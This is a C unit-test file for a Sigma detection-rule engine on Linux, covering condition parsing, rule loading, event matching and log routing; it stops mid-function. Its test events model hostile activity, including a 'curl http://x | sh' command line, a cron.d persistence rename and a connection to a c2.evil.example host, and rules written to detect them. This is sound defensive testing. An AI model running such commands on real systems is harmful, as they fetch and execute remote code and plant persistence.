/*
 * test_sigma.c - Sigma rules (detect/): conditions parse with Sigma's
 * precedence and quantifiers and refuse what they cannot mean; rule files
 * load, and every one that cannot is reported with its line and whether it
 * is invalid or unsupported; loaded rules fire on the events they describe
 * (Sysmon field names on process, file and network events, the path passed
 * to execve as a second Image, the auditd view, keywords) and not on
 * others; the public SigmaHQ Linux corpus (../shared/corpus/sigma-linux)
 * loads with no rule invalid, and at least CORPUS_MIN_PCT of its rules
 * load; system log lines (logsrc.h) route to the sshd, sudo, auth, cron,
 * syslog and keyword rules.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "detect/detect.h"
#include "lib/harness.h"
#include "detect/detect_int.h"
#include "event/event.h"
#include "logsrc/logsrc.h"

/* ---- conditions ---- */

static struct det_sel sels[5];

static void make_sels(void)
{
	static char names[5][16] = { "sel", "filter_a", "filter_b", "_hidden", "other" };

	memset(sels, 0, sizeof(sels));
	for (int i = 0; i < 5; i++)
		sels[i].name = names[i];
}

/* Evaluate a parsed condition with selection i true when bit i of truth. */
static bool eval_with(const struct det_cond *c, unsigned n, unsigned truth)
{
	const struct det_node *nd = &c->nodes[n];

	switch (nd->op) {
	case DN_SEL:
		return truth & (1u << nd->a);
	case DN_AND:
		for (unsigned k = nd->a; k < nd->b; k++)
			if (!eval_with(c, c->kids[k], truth))
				return false;
		return true;
	case DN_OR:
		for (unsigned k = nd->a; k < nd->b; k++)
			if (eval_with(c, c->kids[k], truth))
				return true;
		return false;
	case DN_NOT:
		return !eval_with(c, c->kids[nd->a], truth);
	case DN_TRUE:
		return true;
	default:
		return false;
	}
}

/* The condition's truth table over 5 selections as a 32-bit mask. */
static uint32_t table(const char *text)
{
	struct det_cond c = { 0 };
	char err[200];
	uint32_t t = 0;
	int r;

	make_sels();
	r = det_cond_parse(&c, text, sels, 5, err, sizeof(err));
	if (r < 0)
		fail_msg("'%s': %s", text, err);
	for (unsigned truth = 0; truth < 32; truth++)
		if (eval_with(&c, c.root, truth))
			t |= 1u << truth;
	det_cond_release(&c);
	return t;
}

static uint32_t table_of(bool (*f)(unsigned))
{
	uint32_t t = 0;

	for (unsigned truth = 0; truth < 32; truth++)
		if (f(truth))
			t |= 1u << truth;
	return t;
}

#define B(i) ((truth >> (i)) & 1u)
static bool f1(unsigned truth) { return B(0) || (B(1) && B(2)); }
static bool f2(unsigned truth) { return B(0) && !(B(1) || B(2)); }
static bool f3(unsigned truth) { return B(0) && !B(1) && !B(2); }
static bool f4(unsigned truth) { return B(0) && B(1) && B(2) && B(4); }
static bool f5(unsigned truth) { return (B(0) || B(4)) && !B(3); }
static bool f6(unsigned truth) { return !!B(0); }
static bool f7(unsigned truth) { return !(!B(0)); }
static bool f8(unsigned truth) { return B(0) || B(1) || B(2) || B(3) || B(4); }

static void test_condition_precedence_and_quantifiers(void **state)
{
	(void)state;
	/* and binds tighter than or; not tighter than and */
	assert_int_equal(table("sel or filter_a and filter_b"), table_of(f1));
	assert_int_equal(table("sel and not 1 of filter_*"), table_of(f2));
	assert_int_equal(table("sel and not filter_a and not filter_b"), table_of(f3));
	/* them leaves out names starting with _ */
	assert_int_equal(table("all of them"), table_of(f4));
	assert_int_equal(table("(sel or other) and not _hidden"), table_of(f5));
	assert_int_equal(table("  sel  "), table_of(f6));
	assert_int_equal(table("not not sel"), table_of(f7));
	assert_int_equal(table("1 of *"), table_of(f8));
	/* keywords in any case */
	assert_int_equal(table("sel OR filter_a AND filter_b"), table_of(f1));
}

static void expect_cond_error(const char *text, int rc, const char *msg)
{
	struct det_cond c = { 0 };
	char err[200];

	make_sels();
	assert_int_equal(det_cond_parse(&c, text, sels, 5, err, sizeof(err)), rc);
	if (!strstr(err, msg))
		fail_msg("'%s': got '%s', wanted '%s'", text, err, msg);
	det_cond_release(&c);
}

static void test_condition_errors(void **state)
{
	(void)state;
	expect_cond_error("sel and nope", -EINVAL, "unknown selection 'nope'");
	expect_cond_error("filter_*", -EINVAL, "needs '1 of'");
	expect_cond_error("1 of nomatch*", -EINVAL, "no selection matches 'nomatch*'");
	expect_cond_error("(sel or other", -EINVAL, "missing ')'");
	expect_cond_error("sel and", -EINVAL, "ends too early");
	expect_cond_error("sel other", -EINVAL, "unexpected 'other'");
	expect_cond_error("1 sel", -EINVAL, "expected 'of'");
	expect_cond_error("sel | count() > 5", -ENOTSUP, "aggregations");
	expect_cond_error("sel $", -EINVAL, "unexpected '$'");
	expect_cond_error("", -EINVAL, "ends too early");
}

static void test_condition_nesting_bounded(void **state)
{
	char deep[400];
	size_t n = 0;

	(void)state;
	for (int i = 0; i < 100; i++)
		deep[n++] = '(';
	memcpy(deep + n, "sel", 3);
	n += 3;
	for (int i = 0; i < 100; i++)
		deep[n++] = ')';
	deep[n] = '\0';
	expect_cond_error(deep, -EINVAL, "nested deeper");
}

/* ---- loading ---- */

struct problems {
	int n;
	char text[16][400];
	int line[16];
	enum hn_rule_problem_kind kind[16];
};

static void on_problem(const struct hn_rule_problem *p, void *arg)
{
	struct problems *ps = arg;

	if (ps->n < 16) {
		snprintf(ps->text[ps->n], sizeof(ps->text[0]), "%s", p->why);
		ps->line[ps->n] = p->line;
		ps->kind[ps->n] = p->kind;
	}
	ps->n++;
}

static const char *write_rule(const char *name, const char *text)
{
	const char *path = th_write_file(th_tmp, name, text);

	assert_non_null(path);
	return path;
}

/* Load one rule text; the ruleset (caller frees) and its problems. */
static struct hn_ruleset *load_text(const char *text, struct problems *ps)
{
	struct hn_ruleset *rs = hn_ruleset_new();

	assert_non_null(rs);
	memset(ps, 0, sizeof(*ps));
	assert_true(hn_ruleset_load(rs, write_rule("r.yml", text), on_problem, ps) >= 0);
	return rs;
}

static void expect_problem(const char *text, enum hn_rule_problem_kind kind, int line,
			   const char *msg)
{
	struct problems ps;
	struct hn_ruleset *rs = load_text(text, &ps);

	assert_int_equal(hn_ruleset_count(rs), 0);
	assert_int_equal(ps.n, 1);
	if (!strstr(ps.text[0], msg))
		fail_msg("got '%s', wanted '%s'", ps.text[0], msg);
	assert_int_equal(ps.kind[0], kind);
	assert_int_equal(ps.line[0], line);
	hn_ruleset_free(rs);
}

#define HEAD "title: t\nlogsource:\n  product: linux\n  category: process_creation\n"

static void test_rule_problems_have_lines(void **state)
{
	(void)state;
	expect_problem(HEAD "detection:\n  sel:\n    Image: x\n  condition: sel and\n",
		       HN_RULE_INVALID, 8, "condition: condition ends too early");
	expect_problem(HEAD "detection:\n  sel:\n    Image|nope: x\n  condition: sel\n",
		       HN_RULE_INVALID, 7, "unknown modifier");
	expect_problem(HEAD "detection:\n  sel:\n    Nope: x\n  condition: sel\n",
		       HN_RULE_UNSUPPORTED, 7, "field 'Nope' is not recorded for process_creation");
	expect_problem(HEAD "detection:\n  sel:\n    Image|re: '('\n  condition: sel\n",
		       HN_RULE_INVALID, 7, "Image|re");
	expect_problem(HEAD "detection:\n  sel:\n    Image: [x\n",
		       HN_RULE_INVALID, 8, "not YAML");
	expect_problem(HEAD, HN_RULE_INVALID, 1, "no 'detection'");
	expect_problem("title: t\nlogsource:\n  product: linux\n  service: apache\n"
		       "detection:\n  k:\n    - x\n  condition: k\n",
		       HN_RULE_UNSUPPORTED, 3, "service 'apache'");
	expect_problem("title: t\nlogsource:\n  product: windows\n  category: process_creation\n"
		       "detection:\n  k:\n    - x\n  condition: k\n",
		       HN_RULE_UNSUPPORTED, 3, "not linux");
	expect_problem("logsource:\n  category: process_creation\n"
		       "detection:\n  k:\n    - x\n  condition: k\n",
		       HN_RULE_INVALID, 1, "no 'title'");
	expect_problem(HEAD "level: severe\ndetection:\n  k:\n    - x\n  condition: k\n",
		       HN_RULE_INVALID, 5, "unknown level 'severe'");
	expect_problem(HEAD "detection:\n  sel:\n    - Image: x\n    - y\n  condition: sel\n",
		       HN_RULE_INVALID, 7, "mixes keywords and field maps");
	expect_problem(HEAD "detection:\n  sel:\n    Image: x\n",
		       HN_RULE_INVALID, 6, "no 'condition'");
	expect_problem("- just\n- a list\n", HN_RULE_INVALID, 1, "must be a YAML mapping");
	expect_problem("title: c\ncorrelation:\n  type: event_count\n",
		       HN_RULE_INVALID, 3, "correlation: no 'rules'");
}

static void test_load_directory_and_documents(void **state)
{
	struct hn_ruleset *rs = hn_ruleset_new();
	struct hn_ruleset_stats st;
	struct problems ps = { 0 };
	char sub[128];

	(void)state;
	snprintf(sub, sizeof(sub), "%s/sub", th_tmp);
	assert_int_equal(mkdir(sub, 0700), 0);
	write_rule("a.yml", HEAD "id: 1\ndetection:\n  s:\n    Image: /bin/a\n  condition: s\n"
		   "---\n" HEAD "id: 2\ndetection:\n  s:\n    Image: /bin/b\n  condition: s\n");
	write_rule("sub/b.yaml", HEAD "id: 3\nauthor:\n  - A\n  - B\ntags:\n  - attack.t1059\n"
		   "detection:\n  s:\n    Image: /bin/c\n  condition: s\n");
	write_rule("sub/ignored.txt", "not a rule");
	write_rule("sub/broken.yml", "title: [\n");
	assert_int_equal(hn_ruleset_load(rs, th_tmp, on_problem, &ps), 3);
	assert_int_equal(ps.n, 1);
	hn_ruleset_stats(rs, &st);
	assert_int_equal(st.files, 3);
	assert_int_equal(st.loaded, 3);
	assert_int_equal(st.invalid, 1);
	assert_int_equal(st.per_source[HN_DS_PROCESS_CREATION], 3);
	assert_string_equal(hn_ruleset_rule(rs, 0)->id, "1");
	assert_string_equal(hn_ruleset_rule(rs, 1)->id, "2");
	assert_int_equal(hn_ruleset_rule(rs, 1)->line, 11);
	assert_string_equal(hn_ruleset_rule(rs, 2)->author, "A, B");
	assert_int_equal(hn_ruleset_rule(rs, 2)->ntags, 1);
	assert_string_equal(hn_ruleset_rule(rs, 2)->tags[0], "attack.t1059");
	assert_string_equal(hn_ruleset_rule(rs, 2)->level, "medium");
	assert_int_equal(hn_ruleset_load(rs, "/nonexistent/x", NULL, NULL), -ENOENT);
	hn_ruleset_free(rs);
}

/* ---- matching ---- */

static struct hn_event *mk(uint16_t type)
{
	struct hn_event *ev = hn_event_new(4096);

	assert_non_null(ev);
	ev->type = type;
	ev->time = 1700000000000000000ULL;
	ev->proc.entity = 0x1234;
	ev->proc.pid = 4321;
	ev->proc.ppid = 1;
	ev->proc.uid = 0;
	ev->proc.auid = 1000;
	snprintf(ev->proc.comm, sizeof(ev->proc.comm), "sh");
	return ev;
}

static struct hn_event *mk_exec(const char *path, const char *filename, const char *cwd,
				const char *const *argv)
{
	struct hn_event *ev = mk(HN_EV_PROCESS_START);
	char buf[512];
	size_t n = 0;
	uint32_t argc = 0;

	for (; argv[argc]; argc++) {
		size_t l = strlen(argv[argc]) + 1;
		memcpy(buf + n, argv[argc], l);
		n += l;
	}
	ev->path = hn_event_puts(ev, path);
	ev->filename = hn_event_puts(ev, filename);
	ev->cwd = hn_event_puts(ev, cwd);
	ev->args = hn_event_put(ev, buf, n);
	ev->args_len = n;
	ev->argc = argc;
	return ev;
}

static void count_fired(const struct hn_rule_info *rule, const struct hn_event *ev,
			void *arg)
{
	(void)ev;
	(void)rule;
	(*(int *)arg)++;
}

/* Rules fired by ev under the rule text (one rule). */
static int fires(const char *rule, const struct hn_event *ev,
		 const struct hn_det_parent *par)
{
	struct problems ps;
	struct hn_ruleset *rs = load_text(rule, &ps);
	int n = 0;

	if (ps.n)
		fail_msg("rule not loaded: %s (line %d)", ps.text[0], ps.line[0]);
	assert_int_equal(hn_ruleset_count(rs), 1);
	int r = hn_ruleset_match(rs, ev, par, count_fired, &n);

	assert_int_equal(r, n);
	hn_ruleset_free(rs);
	return n;
}

/*
 * The literal prefilter counts a literal only in the fields its rule
 * names, and an exec's arguments (auditd a0, a1...) are searched as part
 * of the command line: a rule on a0/a1 must still fire when a
 * process_creation rule puts the command line in the search, and a rule on
 * Image when its literal is only in the path as passed to execve.
 */
static void test_literals_count_in_their_fields(void **state)
{
	static const char *const argv[] = { "uname", "-a", NULL };
	const char *rules =
		"title: cmdline\nid: 1\nlogsource:\n  product: linux\n  category: process_creation\n"
		"detection:\n  s:\n    CommandLine|contains: zzqq\n  condition: s\n"
		"---\ntitle: args\nid: 2\nlogsource:\n  product: linux\n  service: auditd\n"
		"detection:\n  s:\n    type: EXECVE\n    a0: uname\n    a1: '-a'\n  condition: s\n"
		"---\ntitle: alt\nid: 3\nlogsource:\n  product: linux\n  category: process_creation\n"
		"detection:\n  s:\n    Image|contains: 'opt/kit/run'\n  condition: s\n"
		"---\ntitle: exe\nid: 4\nlogsource:\n  product: linux\n  service: auditd\n"
		"detection:\n  s:\n    type: SYSCALL\n    exe|startswith: '/opt/kit/'\n  condition: s\n";
	struct problems ps;
	struct hn_ruleset *rs;
	struct hn_event *ev;
	int n = 0;

	(void)state;
	rs = load_text(rules, &ps);
	assert_int_equal(ps.n, 0);
	assert_int_equal(hn_ruleset_count(rs), 4);
	/* the real binary elsewhere, run as ./run from /opt/kit: "opt/kit/run"
	 * is only in Image's second value; "/opt/kit/" in the working
	 * directory and that value, never in exe */
	ev = mk_exec("/usr/lib/kit/real", "./run", "/opt/kit", argv);
	assert_int_equal(hn_ruleset_match(rs, ev, NULL, count_fired, &n), 2);
	assert_int_equal(n, 2);   /* args and alt; not cmdline, not exe */
	hn_event_free(ev);
	hn_ruleset_free(rs);
	/* a value the record's shape decides (SYSCALL "unlink" of a delete)
	 * is searched once, when the rules load, not in each event: a
	 * keyword only it has still fires */
	rs = load_text("title: kw\nid: 5\nlogsource:\n  product: linux\n  service: auditd\n"
		       "detection:\n  k:\n    - 'unlink'\n  condition: k\n", &ps);
	assert_int_equal(ps.n, 0);
	ev = mk(HN_EV_FILE_DELETE);
	ev->path = hn_event_puts(ev, "/srv/data/x");
	n = 0;
	assert_int_equal(hn_ruleset_match(rs, ev, NULL, count_fired, &n), 1);
	hn_event_free(ev);
	ev = mk(HN_EV_FILE_CREATE);
	ev->path = hn_event_puts(ev, "/srv/data/x");
	assert_int_equal(hn_ruleset_match(rs, ev, NULL, count_fired, &n), 0);
	hn_event_free(ev);
	hn_ruleset_free(rs);
}

static void test_process_creation_fields(void **state)
{
	static const char *const argv[] = { "sh", "-c", "curl http://x | sh", NULL };
	struct hn_event *ev = mk_exec("/usr/bin/dash", "/bin/sh", "/tmp/work", argv);
	struct hn_det_parent par = { .image = "/usr/sbin/apache2", .args = "apache2\0-k\0",
				     .args_len = 11 };

	(void)state;
	/* the resolved image, and the path as passed to execve */
	assert_int_equal(fires(HEAD "detection:\n  s:\n    Image|endswith: /dash\n"
			       "  condition: s\n", ev, NULL), 1);
	assert_int_equal(fires(HEAD "detection:\n  s:\n    Image: /bin/sh\n"
			       "  condition: s\n", ev, NULL), 1);
	assert_int_equal(fires(HEAD "detection:\n  s:\n    Image: /bin/bash\n"
			       "  condition: s\n", ev, NULL), 0);
	assert_int_equal(fires(HEAD "detection:\n  s:\n    CommandLine|contains|all:\n"
			       "      - 'curl '\n      - '| sh'\n  condition: s\n", ev, NULL), 1);
	assert_int_equal(fires(HEAD "detection:\n  s:\n    CommandLine: 'SH -C CURL HTTP://X | SH'\n"
			       "  condition: s\n", ev, NULL), 1);
	assert_int_equal(fires(HEAD "detection:\n  s:\n    CommandLine|cased: 'SH -C*'\n"
			       "  condition: s\n", ev, NULL), 0);
	assert_int_equal(fires(HEAD "detection:\n  s:\n    ParentImage|endswith: /apache2\n"
			       "    ParentCommandLine: 'apache2 -k'\n  condition: s\n", ev, &par), 1);
	assert_int_equal(fires(HEAD "detection:\n  s:\n    ParentImage|endswith: /apache2\n"
			       "  condition: s\n", ev, NULL), 0);
	assert_int_equal(fires(HEAD "detection:\n  s:\n    CurrentDirectory|startswith: /tmp/\n"
			       "    User: root\n    LogonId: 1000\n  condition: s\n", ev, NULL), 1);
	assert_int_equal(fires(HEAD "detection:\n  s:\n    Image|endswith: /dash\n"
			       "  f:\n    CommandLine|contains: curl\n  condition: s and not f\n",
			       ev, NULL), 0);
	/* keywords look in the command line (and the images) */
	assert_int_equal(fires(HEAD "detection:\n  k:\n    - '*http://x*'\n  condition: k\n",
			       ev, NULL), 1);
	assert_int_equal(fires(HEAD "detection:\n  k:\n    - 'wget'\n  condition: k\n",
			       ev, NULL), 0);
	/* a relative path passed to execve is made absolute with the cwd */
	hn_event_free(ev);
	ev = mk_exec("/tmp/work/run", "./run", "/tmp/work", argv);
	assert_int_equal(fires(HEAD "detection:\n  s:\n    Image: /tmp/work/run\n"
			       "  condition: s\n", ev, NULL), 1);
	/* a file event is not a process creation */
	hn_event_free(ev);
	ev = mk(HN_EV_FILE_CREATE);
	ev->path = hn_event_puts(ev, "/tmp/x");
	assert_int_equal(fires(HEAD "detection:\n  k:\n    - '*'\n  condition: k\n", ev, NULL), 0);
	hn_event_free(ev);
}

#define FILEHEAD(cat) "title: t\nlogsource:\n  product: linux\n  category: " cat "\n"

static void test_file_and_network_fields(void **state)
{
	struct hn_event *ev = mk(HN_EV_FILE_RENAME);

	(void)state;
	ev->path = hn_event_puts(ev, "/tmp/x");
	ev->path2 = hn_event_puts(ev, "/etc/cron.d/evil");
	ev->proc.executable = hn_event_puts(ev, "/usr/bin/mv");
	/* a rename makes the new name appear: file_event and file_rename */
	assert_int_equal(fires(FILEHEAD("file_event") "detection:\n  s:\n"
			       "    TargetFilename|startswith: /etc/cron.d/\n  condition: s\n",
			       ev, NULL), 1);
	assert_int_equal(fires(FILEHEAD("file_rename") "detection:\n  s:\n"
			       "    SourceFilename: /tmp/x\n    Image: /usr/bin/mv\n  condition: s\n",
			       ev, NULL), 1);
	assert_int_equal(fires(FILEHEAD("file_delete") "detection:\n  s:\n"
			       "    TargetFilename|startswith: /\n  condition: s\n", ev, NULL), 0);
	hn_event_free(ev);

	ev = mk(HN_EV_NET_CONNECT);
	ev->transport = 6;
	assert_int_equal(hn_addr_parse("10.1.2.3", &ev->dst), 0);
	ev->dst.family = AF_INET;
	ev->dst.port = 4444;
	assert_int_equal(hn_addr_parse("192.168.0.5", &ev->src), 0);
	ev->src.family = AF_INET;
	ev->src.port = 40000;
	assert_int_equal(fires(FILEHEAD("network_connection") "detection:\n  s:\n"
			       "    Initiated: 'true'\n    DestinationPort: 4444\n"
			       "    DestinationIp|cidr: 10.0.0.0/8\n    Protocol: tcp\n"
			       "  condition: s\n", ev, NULL), 1);
	/* the name the address was resolved from, when the agent saw the
	 * DNS answer */
	assert_int_equal(fires(FILEHEAD("network_connection") "detection:\n  s:\n"
			       "    DestinationHostname|endswith: .example\n  condition: s\n",
			       ev, NULL), 0);
	ev->dns_name = hn_event_puts(ev, "c2.evil.example");
	assert_int_equal(fires(FILEHEAD("network_connection") "detection:\n  s:\n"
			       "    DestinationHostname|endswith: .example\n  condition: s\n",
			       ev, NULL), 1);
	/* an accept: the peer is the Source, the listener the Destination */
	ev->type = HN_EV_NET_ACCEPT;
	assert_int_equal(fires(FILEHEAD("network_connection") "detection:\n  s:\n"
			       "    DestinationHostname|exists: true\n  condition: s\n",
			       ev, NULL), 0);
	assert_int_equal(fires(FILEHEAD("network_connection") "detection:\n  s:\n"
			       "    Initiated: 'false'\n    DestinationPort: 40000\n"
			       "    SourceIp: 10.1.2.3\n  condition: s\n", ev, NULL), 1);
	hn_event_free(ev);
}

/* fieldref: a field against another field of the same event */
static void test_fieldref(void **state)
{
	static const char *const argv[] = { "x", NULL };
	struct hn_event *ev = mk(HN_EV_FILE_DELETE);
	struct problems ps;
	struct hn_ruleset *rs;

	(void)state;
	/* a program deleting its own executable */
	ev->path = hn_event_puts(ev, "/tmp/.x/dropper");
	ev->proc.executable = hn_event_puts(ev, "/tmp/.x/Dropper");
	assert_int_equal(fires(FILEHEAD("file_delete") "detection:\n  s:\n"
			       "    TargetFilename|fieldref: Image\n  condition: s\n", ev, NULL), 1);
	assert_int_equal(fires(FILEHEAD("file_delete") "detection:\n  s:\n"
			       "    TargetFilename|fieldref|cased: Image\n  condition: s\n",
			       ev, NULL), 0);
	assert_int_equal(fires(FILEHEAD("file_delete") "detection:\n  s:\n"
			       "    Image|fieldref|startswith: TargetFilename\n  condition: s\n",
			       ev, NULL), 1);
	ev->proc.executable = hn_event_puts(ev, "/usr/bin/rm");
	assert_int_equal(fires(FILEHEAD("file_delete") "detection:\n  s:\n"
			       "    TargetFilename|fieldref: Image\n  condition: s\n", ev, NULL), 0);
	assert_int_equal(fires(FILEHEAD("file_delete") "detection:\n  s:\n"
			       "    TargetFilename|fieldref|endswith: Image\n  condition: s\n",
			       ev, NULL), 0);
	hn_event_free(ev);
	/* Image's second value (the path passed to execve) counts too */
	ev = mk_exec("/usr/bin/dash", "/bin/sh", "/bin", argv);
	assert_int_equal(fires(HEAD "detection:\n  s:\n    CurrentDirectory|fieldref|contains:"
			       " Image\n  condition: s\n", ev, NULL), 0);
	assert_int_equal(fires(HEAD "detection:\n  s:\n    Image|fieldref|startswith:"
			       " CurrentDirectory\n  condition: s\n", ev, NULL), 1);
	hn_event_free(ev);
	/* a field the source does not have; fieldref with what it cannot mean */
	rs = load_text(FILEHEAD("file_delete") "detection:\n  s:\n"
		       "    TargetFilename|fieldref: QueryName\n  condition: s\n", &ps);
	assert_int_equal(hn_ruleset_count(rs), 0);
	assert_int_equal(ps.n, 1);
	assert_int_equal(ps.kind[0], HN_RULE_UNSUPPORTED);
	hn_ruleset_free(rs);
	rs = load_text(FILEHEAD("file_delete") "detection:\n  s:\n"
		       "    TargetFilename|fieldref|re: Image\n  condition: s\n", &ps);
	assert_int_equal(hn_ruleset_count(rs), 0);
	assert_int_equal(ps.n, 1);
	assert_int_equal(ps.kind[0], HN_RULE_INVALID);
	hn_ruleset_free(rs);
}

#define AUDHEAD "title: t\nlogsource:\n  product: linux\n  service: auditd\n"

static void test_auditd_view(void **state)
{
	static const char *const argv[] = { "chmod", "+x", "/tmp/p", NULL };
	struct hn_event *ev = mk_exec("/usr/bin/chmod", "/usr/bin/chmod", "/tmp", argv);

	(void)state;
	assert_int_equal(fires(AUDHEAD "detection:\n  s:\n    type: EXECVE\n    a0: chmod\n"
			       "    a1|contains: x\n    a2|startswith: /tmp/\n  condition: s\n",
			       ev, NULL), 1);
	assert_int_equal(fires(AUDHEAD "detection:\n  s:\n    type: SYSCALL\n"
			       "    SYSCALL: execve\n    exe: /usr/bin/chmod\n  condition: s\n",
			       ev, NULL), 1);
	/* fields of different records are never true of one record */
	assert_int_equal(fires(AUDHEAD "detection:\n  s:\n    type: SYSCALL\n    a0: chmod\n"
			       "  condition: s\n", ev, NULL), 0);
	hn_event_free(ev);
	ev = mk(HN_EV_MEMFD_CREATE);
	ev->proc.executable = hn_event_puts(ev, "/usr/bin/ecasound");
	assert_int_equal(fires(AUDHEAD "detection:\n  s:\n    type: SYSCALL\n"
			       "    exe|endswith: /ecasound\n    SYSCALL: memfd_create\n"
			       "  condition: s\n", ev, NULL), 1);
	hn_event_free(ev);
	ev = mk(HN_EV_FILE_DELETE);
	ev->path = hn_event_puts(ev, "/var/log/wtmp");
	assert_int_equal(fires(AUDHEAD "detection:\n  s:\n    type: PATH\n"
			       "    name: /var/log/wtmp\n    nametype: DELETE\n  condition: s\n",
			       ev, NULL), 1);
	hn_event_free(ev);
}

#define LOGHEAD(svc) "title: t\nlogsource:\n  product: linux\n" svc

static struct hn_event *mk_log(const char *line, const char *file)
{
	struct hn_event *ev = hn_logsrc_parse(line, strlen(line), file,
					      1700000000000000000ULL);

	assert_non_null(ev);
	return ev;
}

static void test_log_sources(void **state)
{
	struct hn_event *ev = mk_log("<38>2026-11-27T10:00:00+00:00 box sshd[812]: Accepted"
				     " password for root from 127.0.0.1 port 50000 ssh2",
				     "/var/log/auth.log");

	(void)state;
	/* by program, by facility (authpriv: 38 / 8 = 4), every line */
	assert_int_equal(fires(LOGHEAD("  service: sshd\n") "detection:\n  k:\n"
			       "    - 'Accepted password for root'\n  condition: k\n", ev, NULL), 1);
	assert_int_equal(fires(LOGHEAD("  service: auth\n") "detection:\n  k:\n"
			       "    - '*from 127.0.0.1*'\n  condition: k\n", ev, NULL), 1);
	assert_int_equal(fires(LOGHEAD("") "detection:\n  k:\n    - '*ssh2'\n"
			       "  condition: k\n", ev, NULL), 1);
	assert_int_equal(fires(LOGHEAD("  service: sudo\n") "detection:\n  k:\n"
			       "    - 'Accepted*'\n  condition: k\n", ev, NULL), 0);
	assert_int_equal(fires(LOGHEAD("  service: sshd\n") "detection:\n  s:\n"
			       "    SYSLOG_IDENTIFIER: sshd\n    MESSAGE|startswith: Accepted\n"
			       "  condition: s\n", ev, NULL), 1);
	hn_event_free(ev);
	/* sudo's own fields */
	ev = mk_log("Nov 27 10:00:00 box sudo:     bob : TTY=pts/0 ; PWD=/home/bob ;"
		    " USER=#-1 ; COMMAND=/bin/bash", "/var/log/auth.log");
	assert_int_equal(fires(LOGHEAD("  service: sudo\n") "detection:\n  s:\n"
			       "    USER|contains: '#-'\n    COMMAND: /bin/bash\n"
			       "    PWD: /home/bob\n    TTY: pts/0\n  condition: s\n", ev, NULL), 1);
	assert_int_equal(fires(LOGHEAD("  service: sudo\n") "detection:\n  s:\n"
			       "    USER: root\n  condition: s\n", ev, NULL), 0);
	/* a line of another program is not cron's; not an auth facility but
	 * auth.log: auth */
	assert_int_equal(fires(LOGHEAD("  service: cron\n") "detection:\n  k:\n    - '*'\n"
			       "  condition: k\n", ev, NULL), 0);
	assert_int_equal(fires(LOGHEAD("  service: auth\n") "detection:\n  k:\n    - '*bob*'\n"
			       "  condition: k\n", ev, NULL), 1);
	hn_event_free(ev);
	/* log rules never see process events, nor process rules log lines */
	static const char *const argv[] = { "sshd", NULL };
	ev = mk_exec("/usr/sbin/sshd", "/usr/sbin/sshd", "/", argv);
	assert_int_equal(fires(LOGHEAD("") "detection:\n  k:\n    - '*'\n"
			       "  condition: k\n", ev, NULL), 0);
	hn_event_free(ev);
}

/* ---- the allowlist ---- */

struct tprobs {
	int n, line[8];
	char why[8][128];
};

static void tuning_problem(const char *path, int line, const char *why, void *arg)
{
	struct tprobs *p = arg;

	(void)path;
	if (p->n < 8) {
		p->line[p->n] = line;
		snprintf(p->why[p->n], sizeof(p->why[0]), "%s", why);
	}
	p->n++;
}

static void test_tuning_allowlist(void **state)
{
	static const char *const argv[] = { "backup", "--all", NULL };
	struct hn_tuning *t = NULL;
	struct tprobs p = { 0 };
	struct hn_rule_info r1 = { .id = "rule-1" }, r2 = { .id = "rule-2" };
	struct hn_event *ev;
	const char *path;

	(void)state;
	path = write_rule("tuning.conf",
		"# silence what we know\n"
		"allow rule-1 image=/opt/backup/* cmdline=*--all*\n"
		"allow rule-2 user=root path=/srv/*\n"
		"deny rule-3\n"
		"allow\n"
		"allow rule-4 colour=blue\n"
		"allow rule-5 image=\n"
		"allow rule-6 user=a user=b\n"
		"allow * path=/var/cache/hn/*\n");
	assert_int_equal(hn_tuning_load(path, &t, tuning_problem, &p), 0);
	assert_int_equal(hn_tuning_count(t), 3);
	assert_int_equal(p.n, 5);
	assert_int_equal(p.line[0], 4);
	assert_non_null(strstr(p.why[0], "expected 'allow"));
	assert_int_equal(p.line[1], 5);
	assert_int_equal(p.line[2], 6);
	assert_non_null(strstr(p.why[2], "unknown condition"));
	assert_int_equal(p.line[3], 7);
	assert_int_equal(p.line[4], 8);
	assert_non_null(strstr(p.why[4], "twice"));

	ev = mk_exec("/opt/backup/bin/backup", "/opt/backup/bin/backup", "/", argv);
	assert_true(hn_tuning_allows(t, &r1, ev));
	assert_false(hn_tuning_allows(t, &r2, ev));
	ev->args_len = 7;  /* "backup\0": no --all */
	assert_false(hn_tuning_allows(t, &r1, ev));
	hn_event_free(ev);

	ev = mk(HN_EV_FILE_CREATE);
	ev->path = hn_event_puts(ev, "/srv/www/index.php");
	ev->proc.uid = 0;
	assert_true(hn_tuning_allows(t, &r2, ev));
	ev->proc.uid = 4321;
	assert_false(hn_tuning_allows(t, &r2, ev));
	hn_event_free(ev);
	/* "*": every rule */
	ev = mk(HN_EV_FILE_DELETE);
	ev->path = hn_event_puts(ev, "/var/cache/hn/x");
	assert_true(hn_tuning_allows(t, &r2, ev));
	assert_true(hn_tuning_allows(t, &r1, ev));
	hn_event_free(ev);
	assert_false(hn_tuning_allows(NULL, &r1, ev = mk(HN_EV_FILE_DELETE)));
	hn_event_free(ev);
	hn_tuning_free(t);
	assert_int_equal(hn_tuning_load("/nonexistent/tuning", &t, NULL, NULL), -ENOENT);
}

static const char *corpus(void);

/* The prefilter never hides a match: over the corpus and many events, the
 * rules that fire through hn_ruleset_match are exactly those that a plain
 * evaluation of every rule of every source (and auditd record) fires. */
struct fired {
	unsigned n;
	const struct hn_rule_info *r[512];
};

static void collect_fired(const struct hn_rule_info *rule, const struct hn_event *ev,
			  void *arg)
{
	struct fired *f = arg;

	(void)ev;
	if (f->n < 512)
		f->r[f->n++] = rule;
}

static int cmp_ptr(const void *a, const void *b)
{
	const void *x = *(const void *const *)a, *y = *(const void *const *)b;
	return x < y ? -1 : x > y;
}

static void brute(const struct hn_ruleset *rs, const struct hn_event *ev,
		  const struct hn_det_parent *par, struct fired *f)
{
	unsigned srcs = det_sources_of_event(ev);

	for (int s = HN_DS_PROCESS_CREATION; s < HN_DS_COUNT; s++) {
		unsigned n;
		const unsigned *idx;
		if (!(srcs & (1u << s)))
			continue;
		idx = det_ruleset_by_source(rs, (enum hn_det_source)s, &n);
		for (unsigned i = 0; i < n; i++) {
			const struct det_rule *rule = det_ruleset_rule(rs, idx[i]);
			bool hit = false;
			for (int k = 0; k < (s == HN_DS_AUDITD ? DET_AUDIT_COUNT : 1) && !hit; k++) {
				struct det_rec rec;
